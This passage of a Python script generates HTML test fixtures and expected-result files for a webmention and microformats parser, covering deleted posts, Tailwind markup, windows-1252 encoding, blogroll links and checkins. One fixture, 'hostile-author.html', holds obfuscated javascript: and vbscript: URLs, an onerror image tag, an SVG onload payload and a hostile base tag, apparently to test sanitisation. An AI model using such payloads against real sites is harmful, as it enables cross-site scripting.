# ---------------------------------------------------------------------------
# 36. Deleted post: <meta http-equiv="Status" content="410 Gone">
#     (served with 200 by a static server; the marker says it is gone)
# ---------------------------------------------------------------------------
page("gone-410.html", static_page(
    "Post deleted \u2014 Rhys Kendall",
    """    <article class="tombstone">
      <h1>This post has been deleted</h1>
      <p>The post that used to live here, &ldquo;Some thoughts on webmention&rdquo; from March 2024, was removed by its author on 5 April 2024.</p>
      <p>If you replied to it from your own site, your webmention will be removed from the post it replied to as soon as that site re-checks this page.</p>
      <p><a href="/">Back to the home page</a> &middot; <a href="/archive/">Archive</a></p>
    </article>
""", "Rhys Kendall", "rhys.example",
    extra_head='  <meta http-equiv="Status" content="410 Gone">\n  <meta name="robots" content="noindex">'), {
    "links": False,
    "gone": True,
    "encoding": "utf-8",
})

# ---------------------------------------------------------------------------
# 37. Tailwind-styled static site (Astro): height utilities such as h-full and
#     h-screen look like mf2 roots; one wraps the entry's e-content.
# ---------------------------------------------------------------------------
page("tailwind-h-entry.html", T("""<!DOCTYPE html>
<html lang="en" class="h-full scroll-smooth">
<head>
<meta charset="utf-8">
<meta name="viewport" content="width=device-width, initial-scale=1">
<title>Re: Receiving webmentions without a database | Priya Raman</title>
<meta name="generator" content="Astro v4.5.2">
<link rel="stylesheet" href="/_astro/index.B3kL9x2Q.css">
<link rel="webmention" href="https://webmention.io/priya.example/webmention">
<script type="module" src="/_astro/hoisted.Cz8a1Q7m.js"></script>
</head>
<body class="h-full min-h-screen bg-stone-50 text-stone-900 antialiased dark:bg-stone-950 dark:text-stone-100">
<div class="flex h-screen flex-col">
  <header class="sticky top-0 z-10 h-16 border-b border-stone-200 bg-white/80 backdrop-blur dark:border-stone-800">
    <nav class="mx-auto flex h-full max-w-3xl items-center justify-between px-4" aria-label="Main">
      <a class="font-semibold tracking-tight" href="/">Priya Raman</a>
      <ul class="flex gap-6 text-sm">
        <li><a class="hover:underline" href="/notes/">Notes</a></li>
        <li><a class="hover:underline" href="/writing/">Writing</a></li>
        <li><a class="hover:underline" href="/now/">Now</a></li>
      </ul>
    </nav>
  </header>
  <main class="mx-auto w-full max-w-3xl flex-1 px-4 py-10">
    <article class="h-entry h-full space-y-6 rounded-xl bg-white p-6 shadow-sm ring-1 ring-stone-200 dark:bg-stone-900 dark:ring-stone-800">
      <div class="flex h-12 items-center gap-3">
        <a class="p-author h-card flex h-full items-center gap-2" href="/">
          <img class="h-10 w-10 rounded-full" src="/avatar-priya.webp" alt="" width="40" height="40">
          <span class="font-medium">Priya Raman</span>
        </a>
        <span class="text-stone-400">&middot;</span>
        <a class="u-url text-sm text-stone-500" href="/notes/2024-04-03-webmentions/"><time class="dt-published" datetime="2024-04-03T07:15:00+05:30">3 April 2024</time></a>
      </div>
      <p class="rounded bg-amber-50 px-3 py-2 text-sm dark:bg-amber-950">
        Replying to <a class="u-in-reply-to font-medium underline decoration-amber-400" href="https://blog.example/post/1">Receiving webmentions without a database</a>
      </p>
      <div class="h-full min-h-0 overflow-hidden">
        <div class="e-content prose prose-stone max-w-none dark:prose-invert">
          <p>Ported this to an edge function last weekend. The part that surprised me was how little state it needs: the queue is a KV namespace and each mention is one key.</p>
          <p>One thing I would add to the write-up is a note about rate limits. My endpoint got hammered by a misconfigured pinger and the verification fetches were what cost money, not the storage.</p>
        </div>
      </div>
      <footer class="flex h-8 items-center gap-2 text-xs text-stone-500">
        <a class="p-category rounded bg-stone-100 px-2 py-0.5 dark:bg-stone-800" href="/tags/indieweb/">indieweb</a>
        <a class="p-category rounded bg-stone-100 px-2 py-0.5 dark:bg-stone-800" href="/tags/serverless/">serverless</a>
      </footer>
    </article>
  </main>
  <footer class="h-20 border-t border-stone-200 py-6 text-center text-xs text-stone-500 dark:border-stone-800">
    <p>&copy; 2024 Priya Raman &middot; <a class="underline" href="/rss.xml">RSS</a> &middot; <a class="underline" rel="me" href="https://social.example/@priya">Mastodon</a></p>
  </footer>
</div>
</body>
</html>
"""), {
    "links": True,
    "property": "in-reply-to",
    "author_name": "Priya Raman",
    "author_url": "/",
    "name": None,
    "published": "2024-04-03T07:15:00+05:30",
    "content_contains": "the queue is a KV namespace and each mention is one key",
    "encoding": "utf-8",
})

# ---------------------------------------------------------------------------
# 38. A reply note with no e-content: mf2 implies its name from all of its
#     text, which is the reply itself (not a title).
# ---------------------------------------------------------------------------
page("implied-name-reply.html", static_page(
    "Reply \u2014 Tomasz Wi\u015bniewski",
    """    <div class="h-entry note">
      Great write-up, thanks! I had been doing the verification inline and timing out on slow sites; the queue makes so much sense.
      <a class="u-in-reply-to" href="https://blog.example/post/1">&#8618;</a>
      <a class="u-url" href="/notes/2024/04/05/1/"><time class="dt-published" datetime="2024-04-05T19:02:44+02:00">5 Apr</time></a>
    </div>
    <div class="h-card visually-hidden">
      <a class="u-url u-uid p-name" rel="me" href="/">Tomasz Wi\u015bniewski</a>
    </div>
""", "Tomasz Wi\u015bniewski", "tomasz.example"), {
    "links": True,
    "property": "in-reply-to",
    "author_name": "Tomasz Wi\u015bniewski",
    "author_url": "/",
    "name": None,
    "published": "2024-04-05T19:02:44+02:00",
    "content_contains": "Great write-up, thanks! I had been doing the verification inline",
    "encoding": "utf-8",
})

# ---------------------------------------------------------------------------
# 39. windows-1252 declared by <meta http-equiv="Content-Type">, with the
#     bytes 0x80-0x9F that differ from ISO-8859-1 (curly quotes, dashes, euro).
# ---------------------------------------------------------------------------
page("windows-1252.html", """<!DOCTYPE HTML PUBLIC "-//W3C//DTD HTML 4.01 Transitional//EN" "http://www.w3.org/TR/html4/loose.dtd">
<html>
<head>
<meta http-equiv="Content-Type" content="text/html; charset=windows-1252">
<title>\u201cSmall web\u201d costs \u2013 a look at my hosting bill</title>
<style type="text/css">
body { font-family: Georgia, "Times New Roman", serif; margin: 2em auto; max-width: 40em; color: #222; }
.entry-title { font-size: 1.6em; margin-bottom: .2em; }
.byline { color: #777; font-size: .9em; }
.entry-content p { line-height: 1.5; }
#sidebar { border-top: 1px dotted #aaa; margin-top: 3em; padding-top: 1em; font-size: .9em; }
</style>
</head>
<body>
<div class="hentry">
<h1 class="entry-title">\u201cSmall web\u201d costs \u2013 a look at my hosting bill</h1>
<p class="byline">by <span class="author vcard"><a class="url fn" href="/">Fran\u00e7oise Dupr\u00e9</a></span>,
<abbr class="published" title="2024-04-06T10:00:00+02:00">6 April 2024</abbr></p>
<div class="entry-content">
<p>People keep asking what it \u201creally\u201d costs to run a personal site with comments. Here\u2019s my bill for March: hosting \u20ac4.15, domain \u20ac1.02 (a twelfth of the year), and \u2026 that\u2019s it.</p>
<p>The comments are webmentions now, following <a href="https://blog.example/post/1">Receiving webmentions without a database</a> \u2014 no database, so no database bill. The receiver runs on the same \u20ac4 machine.</p>
<p>Electricity for the router at home doesn\u2019t count, I\u2019ve decided.</p>
</div>
</div>
<div id="sidebar">
<h3>Elsewhere</h3>
<ul>
<li><a href="/archives/">Archives</a></li>
<li><a href="/contact/">Contact</a></li>
<li><a href="/feed/">Feed (RSS)</a></li>
</ul>
<h3>Recent posts</h3>
<ul>
<li><a href="/2024/03/paper-notebooks/">Paper notebooks \u2013 a r\xe9sum\xe9 of ten years</a></li>
<li><a href="/2024/02/old-editor/">Why I still use a \u201cretro\u201d editor</a></li>
<li><a href="/2024/01/caf\xe9-wifi/">Caf\xe9 Wi-Fi, ranked \u2026 badly</a></li>
<li><a href="/2023/12/year-end/">Year-end notes: 31 posts, \u20ac0 ads</a></li>
</ul>
<p>This page is written in a text editor from 2003 and saved as Windows-1252, because it always has been. Accents, \u201csmart\u201d quotes and \u2018single\u2019 ones, dashes \u2013 and \u2014 and the \u2122 sign all come from code page 1252.</p>
</div>
</body>
</html>
""", {
    "links": True,
    "property": "mention-of",
    "author_name": "Fran\u00e7oise Dupr\u00e9",
    "author_url": "/",
    "name": "\u201cSmall web\u201d costs \u2013 a look at my hosting bill",
    "published": "2024-04-06T10:00:00+02:00",
    "content_contains": "Here\u2019s my bill for March: hosting \u20ac4.15, domain \u20ac1.02",
    "encoding": "windows-1252",
}, encoding="windows-1252")

# ---------------------------------------------------------------------------
# 40. Hostile author card and entity-obfuscated links: the author's url is
#     javascript:, the photo a data: URL, the name carries markup as text; an
#     impossible date must not become a publish date.
# ---------------------------------------------------------------------------
page("hostile-author.html", static_page(
    "Re: Receiving webmentions without a database",
    """    <article class="h-entry">
      <p>In reply to <a class="u-in-reply-to" href="https://blog.example/post/1">Receiving webmentions without a database</a></p>
      <p class="post-meta">
        <span class="p-author h-card">
          <img class="u-photo" src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+" alt="">
          <a class="u-url" href="jav&#x09;ascript:alert(document.domain)"><span class="p-name">Eve &lt;img src=x onerror=alert(1)&gt;</span></a>
        </span>
        &middot; <time class="dt-published" datetime="2024-02-30T25:61:00+00:00">the thirtieth of February</time>
      </p>
      <div class="e-content">
        <p>Thanks for the careful write-up; the section on fetching the source before trusting it is the one everybody skips.</p>
        <p><a href="&#106;avascript:alert(1)">entity-encoded scheme</a>, <a href="  javascript:alert(2)">leading spaces</a>,
        <a href="jav&#x0A;ascript:alert(3)">newline in the scheme</a>, <a href="vbscript:msgbox(4)">vbscript</a>,
        <img src="jaVasCript:alert(5)" alt="image with a script source">, <a href="/relative/ok">a fine relative link</a>.</p>
        <base href="javascript:alert(6)//">
        <p><a href="still/relative">after a hostile base</a> &mdash; <img src="https://mallory.example/%22onerror=%22alert(7)" alt="quote in a URL"></p>
      </div>
    </article>
""", "Eve", "eve.example"), {
    "links": True,
    "property": "in-reply-to",
    "author_name": "Eve <img src=x onerror=alert(1)>",
    "author_url": None,
    "name": None,
    "published": None,
    "content_contains": "the section on fetching the source before trusting it is the one everybody skips",
    "encoding": "utf-8",
})

# ---------------------------------------------------------------------------
# 41. A deleted post that keeps its markup: the h-entry has dt-deleted (the
#     IndieWeb tombstone convention) and still links to the target.
# ---------------------------------------------------------------------------
page("deleted-entry.html", static_page(
    "Deleted reply \u2014 Rhys Kendall",
    """    <article class="h-entry tombstone">
      <p class="reply-context">This was a reply to <a class="u-in-reply-to" href="https://blog.example/post/1">Receiving webmentions without a database</a>.</p>
      <p>I deleted this reply on <time class="dt-deleted" datetime="2024-04-07T09:00:00+01:00">7 April 2024</time>. Sites that show it should drop it when they next check this page.</p>
      <p class="post-meta"><a class="p-author h-card" href="/">Rhys Kendall</a> &middot; <a class="u-url" href="/replies/2024/03/30/">originally posted <time class="dt-published" datetime="2024-03-30T12:00:00+00:00">30 March</time></a></p>
    </article>
""", "Rhys Kendall", "rhys.example"), {
    "links": True,
    "gone": True,
    "encoding": "utf-8",
})

# ---------------------------------------------------------------------------
# 42. Home page h-feed whose entries don't link; the link is in the blogroll.
#     The page's representative h-card is the author; the context comes from
#     the blogroll's list.
# ---------------------------------------------------------------------------
page("feed-blogroll-link.html", static_page(
    "Ines Carvalho \u2014 Notebook",
    """    <div class="h-card site-card">
      <img class="u-photo avatar" src="/img/ines.jpg" alt="">
      <a class="p-name u-url u-uid" rel="me" href="/">Ines Carvalho</a>
      <p class="p-note">Notes on gardening, film photography and the occasional bit of code.</p>
    </div>
    <div class="h-feed">
""" + feed_entry("Tomatoes, again", "/2024/04/tomatoes/", "2024-04-02T08:00:00+01:00",
                 "<p>Third year of trying to grow tomatoes on a north-facing balcony. Third year of green tomatoes.</p>")
    + feed_entry("Developing at home", "/2024/03/developing/", "2024-03-20T21:30:00+00:00",
                 "<p>Bought a developing tank. The bathroom will never be the same.</p>")
    + """    </div>
    <aside class="blogroll">
      <h2>Blogroll</h2>
      <ul>
        <li><a href="https://garden.example/">The Windowsill Gardener</a>, for balcony despair</li>
        <li><a href="https://blog.example/post/1">Receiving webmentions without a database</a>, the guide I used for this site&rsquo;s replies</li>
        <li><a href="https://film.example/">Grain and Fixer</a>, for film photography</li>
      </ul>
    </aside>
""", "Ines Carvalho", "ines.example", nav=(("/", "Notebook"), ("/about/", "About"))), {
    "links": True,
    "property": "mention-of",
    "author_name": "Ines Carvalho",
    "author_url": "/",
    "name": "Ines Carvalho",
    "content_contains": "Receiving webmentions without a database, the guide I used for this site\u2019s replies",
    "encoding": "utf-8",
})

# ---------------------------------------------------------------------------
# 43. A reply whose microformat root is <body> itself (Known and several
#     themes put h-entry there): the reply's properties sit among the
#     site's header, navigation and footer.
# ---------------------------------------------------------------------------
page("body-h-entry-reply.html", static_page(
    "Re: Receiving webmentions without a database \u2014 Anjali Rao",
    """    <article class="post">
      <p class="reply-context">In reply to <a class="u-in-reply-to" href="https://blog.example/post/1">Receiving webmentions without a database</a></p>
      <div class="p-name e-content">
        <p>Queueing the verification was the part I was missing. My endpoint answered in four seconds on a bad day, and senders gave up before it finished.</p>
        <p>I now store the pair, answer 202 and check the source from a worker; the slow sites no longer hold anything up.</p>
      </div>
      <p class="post-meta">
        <a class="p-author h-card" href="/"><img class="avatar" src="/img/anjali.jpg" alt="">Anjali Rao</a>
        &middot; <a class="u-url" href="/2024/04/12/queue/"><time class="dt-published" datetime="2024-04-12T08:30:00+05:30">12 April 2024</time></a>
      </p>
    </article>
""", "Anjali Rao", "anjali.example", body_attrs=' class="h-entry"'), {
    "links": True,
    "property": "in-reply-to",
    "post_type": "reply",
    "author_name": "Anjali Rao",
    "author_url": "/",
    "name": None,
    "published": "2024-04-12T08:30:00+05:30",
    "content_contains": "Queueing the verification was the part I was missing.",
    "encoding": "utf-8",
})

# ---------------------------------------------------------------------------
# 44. A checkin (OwnYourSwarm style) on a <body class="h-entry"> page: the
#     place is a nested p-checkin h-card, the note mentions the target in
#     e-content, the photo is the entry's.
# ---------------------------------------------------------------------------
page("checkin-body-h-entry.html", static_page(
    "Checked in at Caf\u00e9 Lindqvist \u2014 Marta Nowak",
    """    <div class="checkin">
      <div class="p-checkin h-card venue">
        Checked in at <a class="p-name u-url" href="https://places.example/venue/4812">Caf\u00e9 Lindqvist</a>,
        <span class="p-street-address">Storgatan 12</span>, <span class="p-locality">Ume\u00e5</span>,
        <span class="p-country-name">Sweden</span>
        <data class="p-latitude" value="63.8258"></data><data class="p-longitude" value="20.2630"></data>
      </div>
      <div class="e-content">
        <p>Reading <a href="https://blog.example/post/1">Receiving webmentions without a database</a> over a cardamom bun; going to try the worker queue on my own site tonight.</p>
      </div>
      <img class="u-photo" src="/photos/2024/04/bun.jpg" alt="A cardamom bun next to a laptop">
      <p class="post-meta">
        <a class="p-author h-card" href="/">Marta Nowak</a>
        &middot; <a class="u-url" href="/2024/04/20/checkin/"><time class="dt-published" datetime="2024-04-20T15:04:00+02:00">20 April 2024</time></a>
      </p>
    </div>
""", "Marta Nowak", "marta.example", body_attrs=' class="h-entry"'), {
    "links": True,
    "property": "mention-of",
    "author_name": "Marta Nowak",
    "author_url": "/",
    "name": None,
    "published": "2024-04-20T15:04:00+02:00",
    "content_contains": "Reading Receiving webmentions without a database over a cardamom bun",
    "encoding": "utf-8",
})

# ---------------------------------------------------------------------------
# Writing
# ---------------------------------------------------------------------------
def expected_name(filename):
    if filename.endswith(".html"):
        return filename[:-len(".html")] + ".expected.json"
    return filename + ".expected.json"


def encode(text, encoding):
    if encoding == "utf-8":
        return text.encode("utf-8")
    if encoding == "iso-8859-1":
        data = text.encode("latin-1")  # strict: fails on anything outside latin-1
        # stay clear of C1 controls so windows-1252 (the WHATWG meaning of the
        # "iso-8859-1" label) decodes the same text
        assert not any(0x80 <= b <= 0x9F for b in data)
        return data
    if encoding == "windows-1252":
        data = text.encode("cp1252")  # strict: the page is meant to use 0x80-0x9F
        assert any(0x80 <= b <= 0x9F for b in data)
        return data
    if encoding == "shift_jis":
        data = text.encode("shift_jis")
        # browsers decode Shift_JIS as windows-31j; make sure both agree
        assert data.decode("cp932") == text
        return data
    if encoding == "utf-16":
        return b"\xff\xfe" + text.encode("utf-16-le")  # BOM + little-endian
    raise ValueError(encoding)


def main():
    names = set()
    for filename, text, encoding, expected in PAGES:
        assert filename not in names, filename
        names.add(filename)
        assert expected.get("encoding", encoding) == encoding, filename
        with open(os.path.join(HERE, filename), "wb") as f:
            f.write(encode(text, encoding))
        with open(os.path.join(HERE, expected_name(filename)), "w",
                  encoding="utf-8", newline="\n") as f:
            f.write(json.dumps(expected, indent=2, ensure_ascii=False) + "\n")
    print("wrote %d source files (+ %d .expected.json)" % (len(PAGES), len(PAGES)))


if __name__ == "__main__":
    main()
